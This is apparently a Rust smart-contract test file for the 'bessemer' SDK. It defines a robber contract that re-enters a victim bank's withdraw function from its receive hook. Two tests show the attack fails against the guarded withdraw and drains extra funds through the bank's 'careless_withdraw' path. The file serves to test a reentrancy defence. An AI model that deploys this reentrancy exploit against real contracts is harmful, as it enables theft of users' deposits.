//! Takes its money from a bank twice, if the bank lets it.

#![cfg_attr(not(test), no_std)]

use bessemer_sdk::prelude::*;
use victim::BankClient;

/// The robber.
#[contract]
pub struct Attacker {
    bank: Value<Address>,
    careless: Value<bool>,
    rounds: Value<u32>,
}

#[contract]
impl Attacker {
    /// Will rob this bank.
    #[init]
    pub fn new(&mut self, bank: Address) {
        self.bank.set(bank);
    }

    /// Puts the value in, and takes it out as often as it can, at most three times.
    #[payable]
    #[reentrant]
    pub fn attack(&mut self, careless: bool) {
        self.careless.set(careless);
        self.rounds.set(0);
        let bank = BankClient::new(self.bank.get());
        bank.with_value(env::value()).deposit();
        if careless {
            bank.careless_withdraw();
        } else {
            bank.withdraw();
        }
    }

    /// Gets the money, and comes back for more.
    #[receive]
    #[reentrant]
    pub fn receive(&mut self) {
        self.rounds += 1;
        if self.rounds < 3 {
            let bank = BankClient::new(self.bank.get());
            // A bank that cannot be entered refuses, which must not make this payment fail.
            let _ = if self.careless.get() {
                bank.try_careless_withdraw()
            } else {
                bank.try_withdraw()
            };
        }
    }

    /// How often it was paid.
    pub fn rounds(&self) -> u32 {
        self.rounds.get()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use bessemer_sdk::testing;
    use victim::Bank;

    /// A bank with 100 of alice, and a robber who attacks it with 10.
    fn attack(careless: bool) -> (Address, AttackerClient) {
        testing::act_as(testing::user("alice"));
        let bank = testing::deploy::<Bank>(&()).unwrap();
        BankClient::new(bank).with_value(U256::from(100u64)).deposit();
        let robber = AttackerClient::new(testing::deploy::<Attacker>(&(bank,)).unwrap());
        robber.with_value(U256::from(10u64)).attack(careless);
        (bank, robber)
    }

    #[test]
    fn a_contract_is_not_entered_again() {
        let (bank, robber) = attack(false);
        assert_eq!(robber.rounds(), 1);
        assert_eq!(env::balance(bank), U256::from(100u64));
        assert_eq!(env::balance(robber.target().address), U256::from(10u64));
    }

    #[test]
    fn a_contract_that_allows_it_is_robbed() {
        let (bank, robber) = attack(true);
        assert_eq!(robber.rounds(), 3);
        assert_eq!(env::balance(bank), U256::from(80u64));
        assert_eq!(env::balance(robber.target().address), U256::from(30u64));
    }
}
